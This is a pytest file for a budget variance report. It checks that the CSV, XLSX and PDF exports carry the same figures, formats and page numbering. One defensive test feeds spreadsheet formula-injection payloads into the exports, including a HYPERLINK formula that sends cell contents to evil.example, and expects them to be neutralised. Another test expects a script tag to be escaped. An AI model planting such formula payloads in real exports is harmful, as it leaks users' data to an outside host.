"""One computation, three layouts: CSV, XLSX and PDF carry the same figures, safely."""

from __future__ import annotations

import csv
import dataclasses
import io
from decimal import Decimal

import openpyxl
import pytest
from pypdf import PdfReader

from budgets.models.figures import MONEY_COLUMNS
from budgets.reports import exports
from budgets.reports.csv_renderer import render_csv
from budgets.reports.variance import COLUMNS, CSV_HEADER
from budgets.reports.xlsx_renderer import MONEY_FORMAT, PCT_FORMAT, render_xlsx
from gmhsc.money import format_money
from tests.budgets.factories import synthetic_variance_report

EXPECTED_HEADER = (
    "line_code,line_name,service_area,locality,lead_commissioner,original_budget,changes,"
    "current_budget,ytd_budget,ytd_actual,ytd_variance,ytd_variance_pct,commitments,"
    "forecast_outturn,forecast_variance,forecast_variance_pct,movement,rag,adverse_favourable,"
    "commentary"
)


def parse_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_line_rows(data: bytes, sheet: str = "By service area") -> dict[str, dict[str, object]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[sheet]
    keys = [key for key, _, _ in COLUMNS]
    rows = {}
    for values in ws.iter_rows(min_row=2, values_only=True):
        if values[0] in ("Subtotal", "Total"):
            continue
        rows[values[0]] = dict(zip(keys, values, strict=True))
    return rows


def as_money(value: object) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


def test_csv_is_utf8_with_bom_one_header_and_plain_numbers():
    report = synthetic_variance_report(4)
    data = render_csv(report)
    text = data.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == EXPECTED_HEADER
    assert ",".join(CSV_HEADER) == EXPECTED_HEADER
    assert len(lines) == 1 + 4
    first = parse_csv(data)[0]
    assert first["line_code"] == "L00000"
    assert first["original_budget"] == "120000.45"
    assert first["ytd_variance"] == "-999.90"
    assert first["ytd_variance_pct"] == "-1.67"
    assert first["rag"] == "green"
    assert "£" not in text


def test_csv_xlsx_and_pdf_carry_identical_figures():
    report = synthetic_variance_report(30)
    rows_csv = {r["line_code"]: r for r in parse_csv(render_csv(report))}
    xlsx = render_xlsx(report)
    for sheet in ("By service area", "By locality", "By lead commissioner"):
        rows_xlsx = xlsx_line_rows(xlsx, sheet)
        assert set(rows_xlsx) == set(rows_csv) == {r.line_code for r in report.rows}
        for row in report.rows:
            for key, _, kind in COLUMNS:
                expected = row.value(key)
                got_csv = rows_csv[row.line_code][key]
                got_xlsx = rows_xlsx[row.line_code][key]
                if kind in ("money", "pct"):
                    if expected is None:
                        assert got_csv == ""
                        assert got_xlsx is None
                    else:
                        assert Decimal(got_csv) == expected
                        assert as_money(got_xlsx) == expected
                else:
                    assert got_csv == expected
                    assert (got_xlsx or "") == expected
    # The fund totals: CSV lines sum to the report's totals; XLSX total rows carry them.
    for key in MONEY_COLUMNS:
        assert sum(Decimal(r[key]) for r in rows_csv.values()) == report.totals.value(key)
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    for ws in wb.worksheets[:3]:
        last = [c.value for c in ws[ws.max_row]]
        assert last[0] == "Total"
        assert as_money(last[7]) == report.totals.current_budget
        assert as_money(last[14]) == report.totals.forecast_variance
    text = "\n".join(
        p.extract_text() for p in PdfReader(io.BytesIO(exports.render(report, "pdf"))).pages
    )
    for key in ("current_budget", "ytd_actual", "forecast_outturn", "forecast_variance"):
        assert format_money(report.totals.value(key)) in text
    for row in report.rows[:5]:
        assert format_money(row.ytd_actual) in text


def test_xlsx_has_money_formats_frozen_header_filters_subtotals_and_notes():
    report = synthetic_variance_report(9)
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(report)))
    assert wb.sheetnames == ["By service area", "By locality", "By lead commissioner", "Notes"]
    ws = wb["By service area"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:T{ws.max_row}"
    assert [c.value for c in ws[1]][:3] == ["Line code", "Line", "Service area"]
    assert ws["F2"].number_format == MONEY_FORMAT == "£#,##0.00;(£#,##0.00)"
    assert ws["L2"].number_format == PCT_FORMAT
    subtotals = [row for row in ws.iter_rows(min_row=2) if row[0].value == "Subtotal"]
    # 3 service areas -> 3 subtotal rows, bold, each the sum of its group
    assert [row[1].value for row in subtotals] == [
        "Adult social care: Home care",
        "Adult social care: Residential care",
        "Public health: Sexual health",
    ]
    assert all(row[0].font.b for row in subtotals)
    home = [r for r in report.rows if r.service_area_code == "ASC.HOME"]
    assert as_money(subtotals[0][7].value) == sum(r.current_budget for r in home)
    locality = [
        row[1].value for row in wb["By locality"].iter_rows(min_row=2) if row[0].value == "Subtotal"
    ]
    assert locality == ["Bolton", "Manchester", "Greater Manchester-wide (no locality)"]
    notes = {row[0].value: row[1].value for row in wb["Notes"].iter_rows()}
    assert notes["Fund"] == "SYN Synthetic fund"
    assert notes["Period"] == "2016/17-M06 (to 2016-09-30)"
    assert notes["As at"].startswith("Figures as at ")
    assert "positive variance is an overspend" in notes["Sign convention"]
    assert "amber from 2.00% to 5.00%" in notes["RAG thresholds"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+SUM(A1:A2)",
        "-2+3",
        "@cmd",
        "\tTabbed",
        "\rReturn",
    ],
)
def test_formula_text_is_neutralised_in_csv_and_xlsx_but_negative_numbers_stay_numbers(text):
    report = synthetic_variance_report(3)
    first = dataclasses.replace(report.rows[0], commentary=text, line_name=text)
    report = dataclasses.replace(report, rows=[first, *report.rows[1:]]).regroup("service_area")
    row_csv = parse_csv(render_csv(report))[0]
    assert row_csv["commentary"] == "'" + text
    assert row_csv["line_name"] == "'" + text
    assert row_csv["ytd_variance"] == "-999.90"
    row_xlsx = xlsx_line_rows(render_xlsx(report))["L00000"]
    # XML reading turns a carriage return into a newline; the leading quote is what matters.
    assert row_xlsx["commentary"] in ("'" + text, "'" + text.replace("\r", "\n"))
    assert row_xlsx["ytd_variance"] == pytest.approx(-999.90)
    assert isinstance(row_xlsx["ytd_variance"], float)


def test_xlsx_text_keeps_markup_characters_and_spaces_and_drops_control_characters():
    report = synthetic_variance_report(3)
    first = dataclasses.replace(
        report.rows[0],
        line_name='  Beds & <bays> "A"\r\nnext  ',
        commentary="Paid\x01 in\x0b full\ttoday",
    )
    report = dataclasses.replace(report, rows=[first, *report.rows[1:]]).regroup("service_area")
    row = xlsx_line_rows(render_xlsx(report))["L00000"]
    assert row["line_name"] == '  Beds & <bays> "A"\r\nnext  '
    assert row["commentary"] == "Paid in full\ttoday"
    assert as_money(row["current_budget"]) == first.current_budget == Decimal("120000.45")
    assert as_money(row["ytd_variance_pct"]) == first.ytd_variance_pct == Decimal("-1.67")


def test_pdf_is_a4_landscape_numbered_page_n_of_m_with_totals_on_the_last_page():
    report = synthetic_variance_report(150)
    reader = PdfReader(io.BytesIO(exports.render(report, "pdf")))
    pages = len(reader.pages)
    assert pages > 1
    box = reader.pages[0].mediabox
    assert round(float(box.width)) == 842
    assert round(float(box.height)) == 595
    first = reader.pages[0].extract_text()
    assert "SYN Synthetic fund" in first
    assert "2016/17-M06" in first
    assert "Figures as at 14:02 on 3 October 2016" in first
    assert f"Page 1 of {pages}" in first
    last = reader.pages[-1].extract_text()
    assert f"Page {pages} of {pages}" in last
    assert "Fund totals SYN 2016/17-M06" in last
    assert format_money(report.totals.forecast_outturn) in last


def test_page_tables_show_one_page_of_lines_with_headings_and_subtotals_where_groups_end():
    from budgets.reports.html_renderer import lines_page_html, page_count, report_tables

    report = synthetic_variance_report(250)  # 3 service areas of 84, 83 and 83 lines
    assert page_count(report, 100) == 3
    first = lines_page_html(report.groups, 1, 100)
    assert first.count('data-line="') == 100
    assert first.count("app-subtotal-row") == 1  # Home care (84 lines) ends on page 1
    assert "Adult social care: Residential care" in first  # heading of the group that continues
    last = lines_page_html(report.groups, 3, 100)
    assert last.count('data-line="') == 50
    assert last.count("app-subtotal-row") == 1
    tables = report_tables(report, 99)
    assert (tables.page, tables.pages) == (3, 3)  # 100 lines a page; past the end -> last page
    assert 'id="fund-total"' in tables.group_totals
    escaped = dataclasses.replace(report.rows[0], line_name="<script>x</script>")
    html = lines_page_html(
        dataclasses.replace(report, rows=[escaped]).regroup("service_area").groups, 1
    )
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
